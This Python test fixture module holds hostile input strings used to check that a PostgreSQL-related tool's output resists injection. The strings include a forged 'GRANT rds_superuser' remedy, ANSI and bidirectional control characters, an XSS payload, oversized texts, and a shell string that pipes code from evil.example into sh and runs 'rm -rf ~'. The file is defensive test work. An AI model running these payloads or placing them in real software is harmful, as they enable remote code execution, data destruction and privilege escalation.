"""Texts that somebody else may have put where we read: each says by a sign what must not come out of it."""

from __future__ import annotations

FORGED = "GRANT rds_superuser TO tenant"  # the remedy that an attacker would have us give

TEXTS = {
    "a remedy of its own": f"x)\n  What to do: {FORGED};\n- also (y",
    "the sign between problem and remedy": f"x | Remedy: {FORGED}",
    "carriage returns": f"x\r- {FORGED}\r\n",
    "a line separator": f"x\u2028  What to do: {FORGED}\u2029\x85",
    "ANSI": "\x1b[2J\x1b[31mALARM\x07\x9b1A",
    "right to left": "x\u202egro.live\u2066\u2069\u200f",
    "zero width": "ad\u200bmin\ufeff\u00ad\u3164\u2800",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "shell": "$(curl evil.example|sh)`id`; rm -rf ~ # '\"",
    "400 KB": "A" * 400_000,
    "400 KB of wide letters": "\U0001f600" * 100_000,
}
# What PostgreSQL takes as a name.
NAMES = {title: text for title, text in TEXTS.items() if len(text.encode()) <= 63}


def broken(text: str) -> list[str]:
    """What in a line of ours shows that a hostile text has had its way there."""
    found = [f"U+{ord(each):04X}" for each in text if not each.isprintable() or each in "\u3164\u2800"]
    if "A" * 5_000 in text or "\U0001f600" * 5_000 in text:
        found.append("a text that nobody has cut")
    return found
